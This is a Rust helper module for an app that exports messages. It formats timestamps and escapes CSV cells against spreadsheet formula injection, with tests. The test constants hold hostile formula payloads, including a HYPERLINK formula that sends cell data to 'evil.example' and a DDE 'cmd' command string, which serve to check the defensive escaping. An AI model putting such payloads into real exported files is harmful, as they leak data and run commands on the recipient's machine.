//! Small shared helpers.

use time::macros::format_description;
use time::OffsetDateTime;

/// Now, as RFC 3339 UTC with exactly three fractional digits, so that timestamps sort
/// correctly as text.
pub fn now() -> String {
    format_time(OffsetDateTime::now_utc())
}

pub fn format_time(t: OffsetDateTime) -> String {
    let fmt =
        format_description!("[year]-[month]-[day]T[hour]:[minute]:[second].[subsecond digits:3]Z");
    t.to_offset(time::UtcOffset::UTC)
        .format(&fmt)
        .unwrap_or_else(|_| t.unix_timestamp().to_string())
}

/// A stored timestamp as people read it in a sentence: `2026-12-02 00:50 UTC` (the text as it
/// is if it is not RFC 3339).
pub fn readable_time(at: &str) -> String {
    let fmt = format_description!("[year]-[month]-[day] [hour]:[minute] UTC");
    OffsetDateTime::parse(at, &time::format_description::well_known::Rfc3339)
        .ok()
        .and_then(|t| t.to_offset(time::UtcOffset::UTC).format(&fmt).ok())
        .unwrap_or_else(|| at.to_string())
}

/// One CSV field, quoted when needed (RFC 4180). Every CSV the app writes goes through here.
///
/// A cell beginning with `=`, `+`, `-`, `@`, TAB or CR would be run as a formula by
/// spreadsheet programs (`=HYPERLINK(...)`, `=cmd|' /C calc'!A0`), and message bodies and
/// contact names are text any WhatsApp user controls: such a cell is prefixed with a single
/// quote and always quoted (the OWASP "CSV injection" advice), so it is shown as text. A
/// signed whole number (a phone number `+4915123456789`, an error code `-1`) is left as it is:
/// it computes nothing.
pub fn csv_field(s: &str) -> String {
    let signed_number =
        s.len() > 1 && s.starts_with(['+', '-']) && s[1..].bytes().all(|b| b.is_ascii_digit());
    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && !signed_number;
    if formula {
        format!("\"'{}\"", s.replace('"', "\"\""))
    } else if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

/// Formula payloads a WhatsApp user can put into a message body or a contact name; the CSV
/// writers' tests feed them through every writer.
#[cfg(test)]
pub(crate) const FORMULA_PAYLOADS: [&str; 2] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "=cmd|' /C calc'!A0",
];

/// Asserts that `csv` holds `payload` only as a neutralised, quoted text cell.
#[cfg(test)]
pub(crate) fn assert_csv_neutralised(csv: &str, payload: &str) {
    let quoted = format!("\"'{}\"", payload.replace('"', "\"\""));
    assert!(
        csv.contains(&quoted),
        "{payload:?} not neutralised in:\n{csv}"
    );
    for line in csv.lines() {
        for start in ["=", "@"] {
            assert!(
                !line.starts_with(start) && !line.contains(&format!(",{start}")),
                "a cell starts with {start:?}: {line}"
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn whole_seconds_keep_their_fraction_so_text_order_is_time_order() {
        let whole = format_time(time::macros::datetime!(2026-11-25 10:00:00 UTC));
        let later = format_time(time::macros::datetime!(2026-11-25 10:00:00.5 UTC));
        assert_eq!(whole, "2026-11-25T10:00:00.000Z");
        assert!(whole < later);
    }

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
        let cases = [
            (
                "=HYPERLINK(\"http://x\",\"y\")",
                "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"",
            ),
            ("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""),
            ("+1+1", "\"'+1+1\""),
            ("-2+3", "\"'-2+3\""),
            ("@SUM(A1)", "\"'@SUM(A1)\""),
            ("\tx", "\"'\tx\""),
            ("\rx", "\"'\rx\""),
            ("plain", "plain"),
            ("a,b", "\"a,b\""),
            ("say \"hi\"", "\"say \"\"hi\"\"\""),
            ("a=b", "a=b"),
            ("+4915123456789", "+4915123456789"),
            ("-1", "-1"),
            ("-", "\"'-\""),
            ("+49 151", "\"'+49 151\""),
            ("", ""),
        ];
        for (cell, want) in cases {
            assert_eq!(csv_field(cell), want, "{cell:?}");
        }
    }
}
